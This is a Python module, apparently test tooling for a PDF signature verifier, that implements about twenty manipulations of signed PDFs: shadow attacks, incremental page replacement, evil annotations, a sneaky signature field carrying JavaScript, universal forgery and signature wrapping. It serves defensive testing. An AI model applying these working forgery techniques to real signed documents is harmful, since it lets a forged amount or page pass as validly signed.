"""Attacks on signed PDFs: each makes of a signed file one that a reader may show differently.

They work on small files with classic cross-reference tables and no encryption, such as those that
`sipadek.testing` makes. A verifier must refuse what they give, also after someone else, whom it
trusts, has signed on top of it.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from typing import Final

from sipadek.errors import InvalidInput

Attack = Callable[[bytes], bytes]


def replace_page(pdf: bytes) -> bytes:
    """Incremental saving: the first page gets other content."""
    page = _number(rb"/Type\s*/Page[^s]", pdf)
    content = re.sub(rb"/Contents\s*\d+ 0 R", b"/Contents %d 0 R" % _size(pdf), _body(pdf, page))
    return _append(pdf, {page: content, _size(pdf): _PAINT})


def overwrite_content(pdf: bytes) -> bytes:
    """Shadow attack, replace: the page's content stream is written anew under its own number."""
    page = _body(pdf, _number(rb"/Type\s*/Page[^s]", pdf))
    return _append(pdf, {_reference(b"Contents", page): _PAINT})


def hide_object(pdf: bytes) -> bytes:
    """Shadow attack, hide: the page's content is taken away, so that what lies below shows."""
    page = _body(pdf, _number(rb"/Type\s*/Page[^s]", pdf))
    return _append(pdf, {_reference(b"Contents", page): b"null"})


def free_object(pdf: bytes) -> bytes:
    """Shadow attack, hide: the cross-reference table says that the content is free."""
    page = _body(pdf, _number(rb"/Type\s*/Page[^s]", pdf))
    number = _reference(b"Contents", page)
    return _append(pdf, {}, entries=b"%d 1\n0000000000 00001 f \n" % number)


def hide_and_replace(pdf: bytes) -> bytes:
    """Shadow attack: the catalog turns to another page tree."""
    size = _size(pdf)
    pages = b"<</Type/Pages/Count 1/Kids[%d 0 R]/MediaBox[0 0 595 842]>>" % (size + 1)
    page = b"<</Type/Page/Parent %d 0 R/Contents %d 0 R>>" % (size, size + 2)
    return _append(
        pdf,
        {
            **_catalog(pdf, rb"/Pages\s*\d+ 0 R", b"/Pages %d 0 R" % size),
            size: pages,
            size + 1: page,
            size + 2: _PAINT,
        },
    )


def change_font(pdf: bytes) -> bytes:
    """Shadow attack, replace: the font that was signed becomes another."""
    number = _number(rb"/Type\s*/Font\W", pdf)
    return _append(pdf, {number: b"<</Type/Font/Subtype/Type1/BaseFont/ZapfDingbats>>"})


def new_generation(pdf: bytes) -> bytes:
    """The content gets a second generation: some readers look at the number alone."""
    number = _reference(b"Contents", _body(pdf, _number(rb"/Type\s*/Page[^s]", pdf)))
    return _append(pdf, {number: _PAINT}, generation=1)


def evil_annotation(pdf: bytes) -> bytes:
    """Evil annotation attack: text over the page."""
    page, size = _number(rb"/Type\s*/Page[^s]", pdf), _size(pdf)
    body = re.sub(rb"/Annots\s*(\[[^]]*\]|\d+ 0 R)", b"", _body(pdf, page))
    annotation = b"<</Type/Annot/Subtype/FreeText/Rect[0 0 595 842]/Contents(Lain)/DA(/F1 40 Tf)>>"
    with_it = _with_entry(body, b"/Annots[%d 0 R]" % size)
    return _append(pdf, {page: with_it, size: annotation})


def sneaky_field(pdf: bytes) -> bytes:
    """Sneaky signature attack: an empty signature field that paints over the page and acts."""
    size = _size(pdf)
    field = (
        b"<</FT/Sig/T(Kosong)/Type/Annot/Subtype/Widget/Rect[0 0 595 842]/F 4"
        b"/AA<</E<</S/JavaScript/JS(app.alert\\(1\\))>>>>>>"
    )
    form = _form(pdf).replace(b"[", b"[%d 0 R " % size, 1)
    return _append(pdf, {**_with_form(pdf, form), size: field})


def need_appearances(pdf: bytes) -> bytes:
    """Every reader is told to draw the fields anew."""
    return _append(pdf, _with_form(pdf, _with_entry(_form(pdf), b"/NeedAppearances true")))


def drop_form(pdf: bytes) -> bytes:
    """The form, and with it the signature, is taken out of the catalog."""
    return _append(pdf, _catalog(pdf, rb"/AcroForm\s*(\d+ 0 R|<<.*?>>)", b""))


def null_signature(pdf: bytes) -> bytes:
    """Universal forgery: the signature dictionary becomes null."""
    return _append(pdf, {_number(rb"/ByteRange", pdf): b"null"})


def no_byte_range(pdf: bytes) -> bytes:
    """Universal forgery: the signature covers nothing that is named."""
    body = re.sub(rb"/ByteRange\s*\[[^]]*\]", b"", _body(pdf, _number(rb"/ByteRange", pdf)))
    return _append(pdf, {_number(rb"/ByteRange", pdf): body})


def open_action(pdf: bytes) -> bytes:
    """A script runs when the file is opened."""
    action = b"/OpenAction<</S/JavaScript/JS(1)>>"
    return _append(pdf, _catalog(pdf, rb"/Pages", action + b"/Pages"))


def layers(pdf: bytes) -> bytes:
    """Optional content is switched in the catalog."""
    return _append(pdf, _catalog(pdf, rb"/Pages", b"/OCProperties<</OCGs[]/D<<>>>>/Pages"))


def other_root(pdf: bytes) -> bytes:
    """The trailer names another catalog."""
    size = _size(pdf)
    root = _body(pdf, int(re.findall(rb"/Root\s*(\d+)", pdf)[-1]))
    return _append(pdf, {size: _with_entry(root, b"/PageLayout/TwoColumnLeft")}, root=size)


def unlisted_object(pdf: bytes) -> bytes:
    """An object that no table lists; readers that rebuild the file take it."""
    page = _body(pdf, _number(rb"/Type\s*/Page[^s]", pdf))
    number = _reference(b"Contents", page)
    return pdf + b"\n%d 0 obj\n%s\nendobj\n" % (number, _PAINT)


def wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: the second signed stretch moves back, and makes room for other objects."""
    found = list(re.finditer(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf))[-1]
    start, length = int(found[3]), int(found[4])
    room = b"7 0 obj\n%s\nendobj\n" % _PAINT
    value = b"/ByteRange [0 %s %d %d]" % (found[2], start + len(room), length)
    moved = pdf[:start] + room + pdf[start:]
    return moved[: found.start()] + value.ljust(len(found[0])) + moved[found.end() :]


def loop(pdf: bytes) -> bytes:
    """A revision whose /Prev is itself."""
    at = len(pdf) + 1
    table = b"\nxref\n0 0\ntrailer\n<</Size %d/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n"
    return pdf + table % (_size(pdf), at, at)


def trailing(pdf: bytes) -> bytes:
    """Bytes behind the end."""
    return pdf + b"\n%%EOF\n"


def prefixed(pdf: bytes) -> bytes:
    """The header moves: every offset is counted from where it stands."""
    return b"%\n" + pdf


ATTACKS: Final[Mapping[str, Attack]] = {
    each.__name__: each
    for each in (
        replace_page,
        overwrite_content,
        hide_object,
        free_object,
        hide_and_replace,
        change_font,
        new_generation,
        evil_annotation,
        sneaky_field,
        need_appearances,
        drop_form,
        null_signature,
        no_byte_range,
        open_action,
        layers,
        other_root,
        unlisted_object,
        wrapped,
        loop,
        trailing,
        prefixed,
    )
}
"""All of them, by name."""

_PAINT = b"<</Length 46>>stream\nBT /F1 24 Tf 72 700 Td (Rp 9.000.000,00) Tj ET\nendstream"


def _append(
    pdf: bytes,
    objects: Mapping[int, bytes],
    *,
    entries: bytes = b"",
    generation: int = 0,
    root: int | None = None,
) -> bytes:
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    for number, body in sorted(objects.items()):
        entries += b"%d 1\n%010d %05d n \n" % (number, len(out), generation)
        out += b"%d %d obj\n%s\nendobj\n" % (number, generation, body)
    old = int(re.findall(rb"/Root\s*(\d+)", pdf)[-1])
    names = re.findall(rb"/ID\s*\[[^]]*\]", pdf)[-1:]
    trailer = b"<</Size %d/Root %d 0 R/Prev %d%s>>" % (
        max(_size(pdf), *(each + 1 for each in (0, *objects))),
        root or old,
        int(pdf.rpartition(b"startxref")[2].split()[0]),
        b"".join(names),
    )
    at = len(out)
    out += b"xref\n%strailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (entries, trailer, at)
    return bytes(out)


def _size(pdf: bytes) -> int:
    return int(re.findall(rb"/Size\s*(\d+)", pdf)[-1])


def _objects(pdf: bytes) -> list[tuple[int, bytes]]:
    return [
        (int(found[1]), found[2].strip())
        for found in re.finditer(rb"(?:^|[\r\n])(\d+) 0 obj(.*?)endobj", pdf, re.DOTALL)
    ]


def _number(holding: bytes, pdf: bytes) -> int:
    """The object of which the last writing holds a pattern."""
    for number, body in reversed(_objects(pdf)):
        if re.search(holding, body):
            return number
    raise InvalidInput(f"The file has no object with {holding!r}; give a small signed file.")


def _body(pdf: bytes, number: int) -> bytes:
    return [body for each, body in _objects(pdf) if each == number][-1]


def _reference(key: bytes, body: bytes) -> int:
    found = re.search(rb"/%s\s*(\d+) 0 R" % key, body)
    if found is None:
        raise InvalidInput(f"The object has no /{key.decode()}; give a small signed file.")
    return int(found[1])


def _with_entry(body: bytes, entry: bytes) -> bytes:
    return body[: body.rindex(b">>")] + entry + b">>"


def _catalog(pdf: bytes, pattern: bytes, by: bytes) -> dict[int, bytes]:
    number = int(re.findall(rb"/Root\s*(\d+)", pdf)[-1])
    return {number: re.sub(pattern, lambda _: by, _body(pdf, number), count=1, flags=re.DOTALL)}


def _form(pdf: bytes) -> bytes:
    return _body(pdf, _reference(b"AcroForm", _body(pdf, _number(rb"/Type\s*/Catalog", pdf))))


def _with_form(pdf: bytes, form: bytes) -> dict[int, bytes]:
    catalog = _body(pdf, _number(rb"/Type\s*/Catalog", pdf))
    return {_reference(b"AcroForm", catalog): form}
